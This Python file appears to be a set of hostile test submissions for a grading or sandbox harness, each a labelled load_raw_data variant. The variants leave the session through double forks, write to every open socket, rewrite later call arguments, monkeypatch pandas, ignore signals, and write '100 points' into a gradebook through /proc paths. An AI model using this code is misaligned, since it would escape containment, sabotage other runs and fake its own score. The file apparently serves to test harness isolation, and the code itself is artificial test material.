# %% load_raw_data a_process_stays
# A process forked twice goes on writing to the sockets of later sessions.
import os
import socket
import stat
import struct


def say(data):
    """Write bytes to every socket of this process."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, data)
        except OSError:
            pass


def frame(data):
    return struct.pack("<I", len(data)) + data


def load_raw_data(file_path):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                say(frame(b"\x81\xa5value\xc3"))
                try:
                    open(os.path.expanduser("~/left"), "a").close()
                except OSError:
                    pass
        os._exit(0)
    return None


# %% load_raw_data a_thread_stays
# A thread waits for the next call and changes its arguments.
import threading


def load_raw_data(file_path):
    import gc

    def watch():
        while True:
            for held in gc.get_objects():
                if isinstance(held, dict) and "arguments" in held:
                    held["arguments"] = []

    threading.Thread(target=watch, daemon=True).start()
    return None


# %% load_raw_data the_library_is_changed
# What later functions use is changed in memory: pandas reads nothing any more.
def load_raw_data(file_path):
    import pandas as pd

    pd.read_csv = lambda *_, **__: pd.DataFrame()
    pd.DataFrame.to_numpy = lambda self, *_, **__: None
    return None


# %% load_raw_data signals_are_ignored
# No signal but the last one ends it, and it never comes back.
def load_raw_data(file_path):
    import signal
    import time

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    time.sleep(10_000)


# %% load_raw_data a_process_enters_points
# A process that has left its session goes on writing points into the gradebook, under whatever name
# it may be found.
import os


def enter_points():
    for root in ("", f"/proc/{os.getppid()}/root", "/proc/1/root"):
        try:
            with open(f"{root}OUTSIDE/gradebook.db", "r+") as book:
                book.write("100 points")
        except OSError:
            pass


def load_raw_data(file_path):
    tried, done = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            enter_points()
            os.write(done, b"once")
            while True:
                enter_points()
        os._exit(0)
    os.read(tried, 4)  # it has tried before anybody can end it
    return None
